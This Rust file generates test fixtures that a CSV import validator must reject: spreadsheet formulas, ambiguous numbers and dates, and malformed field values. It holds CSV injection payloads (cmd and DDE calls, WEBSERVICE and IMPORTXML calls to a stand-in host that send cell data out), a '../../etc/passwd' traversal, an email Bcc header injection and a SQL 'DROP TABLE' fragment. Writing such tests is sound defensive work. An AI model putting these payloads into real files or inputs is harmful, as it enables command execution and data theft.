//! Cells that must be refused, each in a file of its own.

use super::{CONVERSIONS, File, INVITEES, Must, REFERRERS, quoted, tell};

/// What a spreadsheet would run (the forms that OWASP names under CSV injection), where only plain values may stand.
pub fn formulas() -> Vec<File> {
    let payloads = [
        "=1+1",
        "+1+1",
        "-1+1",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "=cmd|'/C calc'!A0",
        "=HYPERLINK(\"http://x.example\",\"y\")",
        "=IMPORTXML(CONCAT(\"http://x.example\",A1),\"//a\")",
        "=WEBSERVICE(\"http://x.example\")",
        "=DDE(\"cmd\";\"/C calc\";\"x\")",
        "＝1+1",
        "+44=1",
        "=1\u{a0}+1",
        "=\u{202e}1",
        "=A1&\"x\"",
        "%0A=1+1",
        "=2*3",
    ];
    let fields = ["email", "language", "country", "at", "total", "currency", "kind"];
    let mut files = Vec::new();
    for (number, payload) in payloads.iter().enumerate() {
        for field in fields {
            let (mapping, others) = match field {
                "total" | "currency" | "kind" => (format!("{CONVERSIONS}currency = 'EUR'"), "host_id"),
                _ => (REFERRERS.to_owned(), "host_id"),
            };
            let text = match field {
                "currency" => format!("{others},{field},total\nbea,{},1\n", quoted(payload)),
                _ => format!("{others},{field}\nbea,{}\n", quoted(payload)),
            };
            let reason = match field {
                "total" => "not_a_number",
                "at" => "not_a_date",
                _ => "invalid_value",
            };
            let must = Must::Tell(vec![format!("2 invalid {reason}")]);
            files.push(File::new(format!("formula {number} as {field}"), mapping, text, must));
        }
    }
    files
}

/// Amounts that are none, could be two, or are too large.
pub fn numbers() -> Vec<File> {
    let cases = [
        ("1,234", "ambiguous_number"),
        ("1.234", "ambiguous_number"),
        ("1,23", "ambiguous_number"),
        ("1 234", "ambiguous_number"),
        ("1.234.567", "ambiguous_number"),
        ("1,234.56", "ambiguous_number"),
        ("1'234", "ambiguous_number"),
        ("12.", "ambiguous_number"),
        ("1..2", "ambiguous_number"),
        ("0,0", "ambiguous_number"),
        ("1e5", "not_a_number"),
        ("1E400", "not_a_number"),
        ("NaN", "not_a_number"),
        ("inf", "not_a_number"),
        ("-inf", "not_a_number"),
        ("Infinity", "not_a_number"),
        ("0x7fff", "not_a_number"),
        ("0b1", "not_a_number"),
        ("１２", "not_a_number"),
        ("٣", "not_a_number"),
        ("½", "not_a_number"),
        ("+5", "not_a_number"),
        ("--5", "not_a_number"),
        ("5-", "not_a_number"),
        ("(5)", "not_a_number"),
        ("$5", "not_a_number"),
        ("5€", "not_a_number"),
        ("EUR 5", "not_a_number"),
        (".5", "not_a_number"),
        ("five", "not_a_number"),
        ("null", "not_a_number"),
        ("#REF!", "not_a_number"),
        ("1_000", "not_a_number"),
        ("\u{2212}5", "not_a_number"),
        ("5%", "not_a_number"),
        ("9223372036854775807", "not_an_amount"),
        ("9223372036854775808", "not_an_amount"),
        ("92233720368547758.08", "not_an_amount"),
        ("-92233720368547758.09", "not_an_amount"),
        ("99999999999999999999999999999999999999999", "not_an_amount"),
        ("0.00001", "not_an_amount"),
        ("1.2345", "not_an_amount"),
        ("-1", "invalid_command"),
        ("-0.01", "invalid_command"),
        ("-92233720368547758.08", "invalid_command"),
        ("5 USD", "currency"),
        ("5 XXX", "invalid_value"),
    ];
    let file = |(number, reason): &(&str, &str)| {
        let text = format!("id,host_id,total\no,bea,{}\n", quoted(number));
        let must = Must::Tell(vec![format!("2 invalid {reason}")]);
        File::new(format!("number {number}"), format!("{CONVERSIONS}currency = 'EUR'"), text, must)
    };
    cases.iter().map(file).collect()
}

/// Times that are none, could be two, or lie beyond all time.
pub fn times() -> Vec<File> {
    let cases = [
        ("03/04/2026", "ambiguous_date"),
        ("3.4.2026", "ambiguous_date"),
        ("31/12/2026", "ambiguous_date"),
        ("12-31-2026", "ambiguous_date"),
        ("01/02/03", "ambiguous_date"),
        ("2026-05-01", "ambiguous_time"),
        ("2026-05-01 10:00", "ambiguous_time"),
        ("2026-05-01T10:00:00", "ambiguous_time"),
        ("2026/05/01", "ambiguous_time"),
        ("0000-00-00", "not_a_date"),
        ("0000-00-00 00:00:00", "not_a_date"),
        ("0001-01-01T00:00:00Z", "not_a_date"),
        ("1969-12-31T23:59:59Z", "not_a_date"),
        ("1970-01-01T00:00:00+01:00", "not_a_date"),
        ("9999-12-31T23:59:59Z", "not_a_date"),
        ("10000-01-01T00:00:00Z", "not_a_date"),
        ("-2026-05-01T00:00:00Z", "not_a_date"),
        ("2026-02-30T00:00:00Z", "not_a_date"),
        ("2026-02-29T00:00:00Z", "not_a_date"),
        ("2026-13-01T00:00:00Z", "not_a_date"),
        ("2026-05-32T00:00:00Z", "not_a_date"),
        ("2026-05-01T25:00:00Z", "not_a_date"),
        ("2026-05-01T24:00:00Z", "not_a_date"),
        ("2026-05-01T10:60:00Z", "not_a_date"),
        ("2026-05-01T10:00:00+99:00", "not_a_date"),
        ("2026-121", "not_a_date"),
        ("2026-W18-5", "not_a_date"),
        ("20260501T100000Z", "not_a_date"),
        ("1777627800", "not_a_date"),
        ("46143", "not_a_date"),
        ("46143.5", "not_a_date"),
        ("-1", "not_a_date"),
        ("9223372036854775807", "not_a_date"),
        ("-9223372036854775808", "not_a_date"),
        ("1e10", "not_a_date"),
        ("now", "not_a_date"),
        ("tomorrow", "not_a_date"),
        ("1 May 2026", "not_a_date"),
        ("Fri, 01 May 2026 10:00:00 GMT", "not_a_date"),
        ("２０２６-05-01T00:00:00Z", "not_a_date"),
        ("2026-05-01T10:00:00Z; DROP TABLE x", "not_a_date"),
        ("令和8年5月1日", "not_a_date"),
    ];
    let file = |(time, reason): &(&str, &str)| {
        let must = Must::Tell(vec![format!("2 invalid {reason}")]);
        File::new(format!("time {time}"), REFERRERS, format!("host_id,at\nbea,{}\n", quoted(time)), must)
    };
    cases.iter().map(file).collect()
}

/// Values that are too long, hold what they may not, or name nobody.
pub fn values() -> Vec<File> {
    let long = "x".repeat(256);
    let cases: Vec<(&str, &str, String, &str)> = vec![
        (REFERRERS, "host_id", long.clone(), "invalid_value"),
        (REFERRERS, "host_id", "x".repeat(60_000), "invalid_value"),
        (REFERRERS, "host_id", "a\nb".into(), "invalid_value"),
        (REFERRERS, "host_id", "a\u{7f}b".into(), "invalid_value"),
        (REFERRERS, "host_id", "a\u{1b}[31mb".into(), "invalid_value"),
        (REFERRERS, "host_id", "a\u{85}b".into(), "invalid_value"),
        (REFERRERS, "email", "bea".into(), "invalid_value"),
        (REFERRERS, "email", "@".into(), "invalid_value"),
        (REFERRERS, "email", "bea@".into(), "invalid_value"),
        (REFERRERS, "email", "@example.com".into(), "invalid_value"),
        (REFERRERS, "email", "a b@example.com".into(), "invalid_value"),
        (REFERRERS, "email", "bea@example".into(), "invalid_value"),
        (REFERRERS, "email", "bea@exa mple.com".into(), "invalid_value"),
        (REFERRERS, "email", "bea@127.0.0.1]".into(), "invalid_value"),
        (REFERRERS, "email", format!("{long}@example.com"), "invalid_value"),
        (REFERRERS, "email", "a@example.com,b@example.com".into(), "invalid_value"),
        (REFERRERS, "email", "bea@example.com\r\nBcc: x@example.com".into(), "invalid_value"),
        (REFERRERS, "email", "<script>@example.com".into(), "invalid_value"),
        (REFERRERS, "language", "engl".into(), "invalid_value"),
        (REFERRERS, "country", "Germany".into(), "invalid_value"),
        (REFERRERS, "country", "1".into(), "invalid_value"),
        (REFERRERS, "name", "x".repeat(201), "invalid_command"),
        (REFERRERS, "name", "a\nb".into(), "invalid_command"),
        (REFERRERS, "name", "a\u{0}b".replace('\0', "\u{8}"), "invalid_command"),
        (REFERRERS, "data.plan", long.clone(), "invalid_command"),
        (REFERRERS, "data.plan", "a\nb".into(), "invalid_command"),
        (REFERRERS, "id", long.clone(), "invalid_value"),
        (REFERRERS, "id", "a\nb".into(), "invalid_value"),
        (INVITEES, "existing_customer", "maybe".into(), "not_yes_or_no"),
        (INVITEES, "referrer", "not-a-uuid".into(), "invalid_value"),
        (INVITEES, "referrer_email", "nobody".into(), "invalid_value"),
        (INVITEES, "referrer_host_id", long.clone(), "invalid_value"),
        (CONVERSIONS, "kind", "theft".into(), "invalid_value"),
        (CONVERSIONS, "source", "Shop!".into(), "invalid_value"),
        (CONVERSIONS, "campaign", "../../etc/passwd".into(), "invalid_value"),
        (CONVERSIONS, "coupon", long, "invalid_command"),
        (CONVERSIONS, "total", "5".into(), "currency"),
    ];
    let mut files = Vec::new();
    for (number, (mapping, field, value, reason)) in cases.into_iter().enumerate() {
        let (header, first) = if field == "host_id" { ("email2", "x") } else { ("host_id", "bea") };
        let text = format!("{header},{field}\n{first},{}\n", quoted(&value));
        let must = Must::Tell(vec![format!("2 invalid {reason}")]);
        files.push(File::new(format!("value {number} of {field}"), mapping, text, must));
    }
    for (number, row) in ["\"\",\"\",x", " ,\t,x", ",,x"].iter().enumerate() {
        let must = tell(&["2 invalid nobody"]);
        files.push(File::new(format!("nobody {number}"), REFERRERS, format!("host_id,email,name\n{row}\n"), must));
    }
    files
}
